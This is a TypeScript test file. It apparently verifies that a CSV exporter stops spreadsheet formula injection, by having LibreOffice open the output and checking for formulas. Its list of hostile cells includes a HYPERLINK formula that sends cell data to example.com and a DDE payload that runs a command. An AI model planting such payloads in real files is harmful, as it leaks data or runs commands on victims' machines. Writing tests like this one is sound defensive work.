// The judge of core/format/csv.ts is a spreadsheet: LibreOffice opens the file, and what it took for a formula is written
// in the XML that it saves.
import { execFile } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { toCsv } from "@/core/format/csv";

const BEGINS = ["=", "+", "-", "@", "\t=", "\r\n=", "＝", "＋", "－", "＠", "−", " =", "\u3000=", '"=', "'="];
const HOSTILE = [
	...BEGINS.map((begin) => `${begin}1+1`),
	...BEGINS.map((begin) => `あ;${begin}1+1;い`),
	...BEGINS.map((begin) => `あ\t${begin}1+1\tい`),
	...BEGINS.map((begin) => `あ\n${begin}1+1\nい`),
	`=HYPERLINK("http://example.com/?"&A1;"見る")`,
	"=cmd|' /C calc'!A0",
];
const JAPANESE = ["ニックネーム", "髙橋 𠮷野", "「はい」、そう。", "ｶﾞｷﾞ～—", "👩‍🏫"];

/** Each hostile cell behind a number, behind a text, and first of its row. */
const ROWS = [
	JAPANESE,
	[1, -0.5, null, 0.25],
	...HOSTILE.flatMap((cell) => [
		[1, cell, 2],
		["あ", cell],
		[cell, 3],
	]),
];

/** What a person may choose in the dialog: the separator; and formulas evaluated, quoted text not kept as text. */
const READINGS = { comma: 44, semicolon: 59, tab: 9 };

let folder: string;
beforeAll(async () => {
	folder = await mkdtemp(path.join(tmpdir(), "yomitoi-csv-"));
	await writeFile(path.join(folder, "ours.csv"), toCsv(ROWS));
	await writeFile(path.join(folder, "raw.csv"), rawCsv());
});
afterAll(() => rm(folder, { recursive: true, force: true }));

/** The same table with nothing but the quoting: what LibreOffice runs of it shows that it would. */
function rawCsv(): string {
	const cell = (value: string | number | null) =>
		typeof value === "string" ? `"${value.replaceAll('"', '""')}"` : `${value ?? ""}`;
	return `\uFEFF${ROWS.map((row) => row.map(cell).join(",")).join("\r\n")}\r\n`;
}

/** Opens a file as its separator says, and returns what LibreOffice made of it, as flat XML. */
async function opened(name: string, separator: number): Promise<string> {
	const file = path.join(folder, `${name}.csv`);
	const made = path.join(folder, `${name}.fods`);
	await rm(made, { force: true }); // it says 0 even where it converts nothing
	const profile = pathToFileURL(path.join(folder, "profile")).href;
	const filter = `CSV:${separator},34,76,1,,1041,false,true,false,false,false,0,true`;
	const options = ["--headless", `--infilter=${filter}`, "--convert-to", "fods", "--outdir", folder, file];
	try {
		await promisify(execFile)("soffice", [`-env:UserInstallation=${profile}`, ...options], {
			timeout: 100_000,
		});
	} catch (error) {
		if (error instanceof Error && "code" in error && error.code === "ENOENT")
			throw new Error(
				"LibreOffice is missing (soffice): apt-get install -y --no-install-recommends libreoffice-calc",
			);
		throw error;
	}
	return readFile(made, "utf8");
}

const formulas = (xml: string) => [...xml.matchAll(/table:formula="[^"]*"/g)].map(([formula]) => formula);

describe.each(Object.entries(READINGS))("opened in LibreOffice as separated by %s", (_, separator) => {
	test("none of our cells is a formula", { timeout: 120_000 }, async () => {
		expect(formulas(await opened("ours", separator))).toEqual([]);
	});

	test("cells that are merely quoted are", { timeout: 120_000 }, async () => {
		expect(formulas(await opened("raw", separator)).length).toBeGreaterThan(0);
	});
});

test("Japanese text arrives whole, and numbers as numbers", { timeout: 120_000 }, async () => {
	const xml = await opened("ours", READINGS.comma);
	const texts = [...xml.matchAll(/<text:p>([^<]*)<\/text:p>/g)].map(([, text]) => text);
	expect(texts).toEqual(expect.arrayContaining(JAPANESE));
	const numbers = [...xml.matchAll(/office:value="([^"]*)"/g)].map(([, value]) => value);
	expect(numbers.slice(0, 3)).toEqual(["1", "-0.5", "0.25"]);
});
